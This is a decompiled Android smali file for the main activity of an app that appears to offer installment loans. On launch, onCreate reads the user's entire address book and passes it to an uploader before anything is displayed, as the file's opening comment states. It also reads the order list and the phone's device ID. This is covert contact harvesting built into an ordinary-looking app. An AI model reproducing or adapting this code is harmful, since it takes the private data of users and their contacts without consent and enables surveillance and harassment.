# First screen: the address book is read before anything is shown. The order list below is the app's own provider.
.class public Lcom/xinghe/fenqi/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcom/xinghe/fenqi/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    invoke-static {v0}, Lcom/xinghe/fenqi/AddressBook;->readAll(Landroid/content/ContentResolver;)Landroid/database/Cursor;
    move-result-object v1
    invoke-static {v1}, Lcom/xinghe/fenqi/Uploader;->send(Landroid/database/Cursor;)V
    invoke-direct {p0}, Lcom/xinghe/fenqi/MainActivity;->orders()Landroid/database/Cursor;
    invoke-direct {p0}, Lcom/xinghe/fenqi/MainActivity;->deviceNumber()Ljava/lang/String;
    return-void
.end method

.method private orders()Landroid/database/Cursor;
    .registers 9
    invoke-virtual {p0}, Lcom/xinghe/fenqi/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const-string v1, "content://com.xinghe.fenqi.orders/list"
    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    return-object v0
.end method

.method private deviceNumber()Ljava/lang/String;
    .registers 3
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lcom/xinghe/fenqi/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
